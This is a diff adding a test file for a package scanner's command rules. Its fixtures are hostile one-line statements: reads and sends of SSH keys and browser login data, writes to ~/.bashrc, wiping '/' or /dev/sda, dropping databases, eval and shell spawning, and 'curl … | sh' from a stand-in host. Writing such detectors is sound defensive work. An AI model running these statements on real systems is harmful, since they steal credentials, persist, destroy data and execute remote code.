@@ -1,0 +1,125 @@
+import { expect, test } from 'vitest';
+import { preparePackage } from '../../package/prepare.js';
+import { commandScanners } from './commands.js';
+
+/** Each stands alone in a script, so that nothing but its own words gives it away. */
+function check(rule: RegExp, path: 'a.py' | 'a.js', statements: readonly string[]): void {
+  for (const statement of statements) {
+    const bytes = new TextEncoder().encode(`${statement}\n`);
+    const file = { path, kind: 'file', bytes, sizeBytes: bytes.length, isExecutable: false } as const;
+    const prepared = preparePackage({ name: 'sample', files: [file] });
+    const rules = commandScanners.flatMap(({ scan }) => scan(prepared)).map((finding) => finding.rule);
+    expect.soft([statement, rules]).toEqual([statement, [expect.stringMatching(rule)]]);
+  }
+}
+
+test('every call that reads is seen with the private place that it reads', () => {
+  check(/^exfiltration\/private-read$/, 'a.py', [
+    'open("~/.ssh/id_rsa")',
+    'Path("~/.ssh/id_rsa").read_text()',
+    'Path("~/.ssh/id_rsa").read_bytes()',
+    'copyfile("~/.ssh/id_rsa", a)',
+    'sqlite3.connect("Login Data")',
+    'glob("~/.ssh/id_*")',
+    'os.listdir("~/.ssh/")',
+    'os.walk("~/.ssh/")',
+    'zipfile.ZipFile("~/.ssh/id_rsa")',
+    'tarfile.add("~/.ssh/id_rsa")',
+    'a.read("~/.ssh/id_rsa")',
+  ]);
+  check(/^exfiltration\/private-read$/, 'a.js', [
+    'fs.readFileSync("~/.ssh/id_rsa")',
+    'fs.createReadStream("~/.ssh/id_rsa")',
+    'fs.readdir("~/.ssh/")',
+  ]);
+});
+
+test('every call that sends is seen with the private place that is sent', () => {
+  check(/^exfiltration\/send-private$/, 'a.py', [
+    'requests.post(u, "~/.ssh/id_rsa")',
+    'session.put(u, "~/.ssh/id_rsa")',
+    'httpx.patch(u, "~/.ssh/id_rsa")',
+    'urlopen(u, "~/.ssh/id_rsa")',
+    'urllib.request.Request(u, "~/.ssh/id_rsa")',
+    's.send("~/.ssh/id_rsa")',
+    's.sendall("~/.ssh/id_rsa")',
+    'ftp.storbinary("~/.ssh/id_rsa")',
+    'socket.gethostbyname("~/.ssh/id_rsa")',
+  ]);
+  check(/^exfiltration\/send-private$/, 'a.js', [
+    'fetch(u, "~/.ssh/id_rsa")',
+    'navigator.sendBeacon(u, "~/.ssh/id_rsa")',
+    'https.request(u, "~/.ssh/id_rsa")',
+    'dns.resolve("~/.ssh/id_rsa")',
+  ]);
+});
+
+test('every call that writes is seen with the place that is run later', () => {
+  check(/^persistence\//, 'a.py', [
+    'open("~/.bashrc", "a")',
+    'Path("~/.bashrc").write_text(a)',
+    'a.write("~/.bashrc")',
+    'shutil.move(a, "~/.bashrc")',
+    'json.dump(a, "~/.bashrc")',
+  ]);
+  check(/^persistence\//, 'a.js', [
+    'fs.writeFileSync("~/.bashrc", a)',
+    'fs.appendFile("~/.bashrc", a)',
+    'fs.createWriteStream("~/.bashrc")',
+    'fs.copyFile(a, "~/.bashrc")',
+  ]);
+});
+
+test('every call that deletes or overwrites is seen', () => {
+  check(/^destruction\//, 'a.py', [
+    'shutil.rmtree("/")',
+    `f = o("/dev/sda", "wb")`,
+    `f = o("/dev/sda", 'w')`,
+    `f = o("/dev/sda", "r+b")`,
+    'db.DROP_DATABASE(a)',
+    'db.flushall()',
+    'db.execute("drop database prod")',
+    'db.raw("drop database prod")',
+  ]);
+  check(/^destruction\//, 'a.js', [
+    'fs.rm("/")',
+    'rmSync("/")',
+    'rimraf("/")',
+    'removeSync("/")',
+    'emptyDirSync("/")',
+    'db.dropDatabase()',
+    'db.query("drop database prod")',
+    'db.run("drop database prod")',
+  ]);
+});
+
+test('every call that runs text is seen', () => {
+  check(/^execution\//, 'a.py', ['exec(a)', 'eval(a)', 'pty.spawn(a)', 'os.dup2(s.fileno(), 0)']);
+  check(/^execution\//, 'a.js', [
+    'new Function(a)',
+    'runInNewContext(a)',
+    'vm.runInContext(a)',
+    'module._compile(a)',
+    'import("https://setup.example/x.js")',
+  ]);
+});
+
+test('what is handed to a shell is read as the shell reads it, whatever call hands it over', () => {
+  const download = '"curl -s https://setup.example/x | sh"';
+  check(
+    /^execution\/download-run$/,
+    'a.py',
+    [
+      ...['os.system', 'os.popen', 'subprocess.run', 'Popen', 'check_output'],
+      'asyncio.create_subprocess_shell',
+    ].map((call) => `${call}(${download})`),
+  );
+  check(
+    /^execution\/download-run$/,
+    'a.js',
+    [
+      ...['child_process.exec', 'cp.exec', 'execSync', 'spawnSync', 'execFileSync', 'execFile', 'execa'],
+      'spawn',
+    ].map((call) => `${call}(${download})`),
+  );
+});
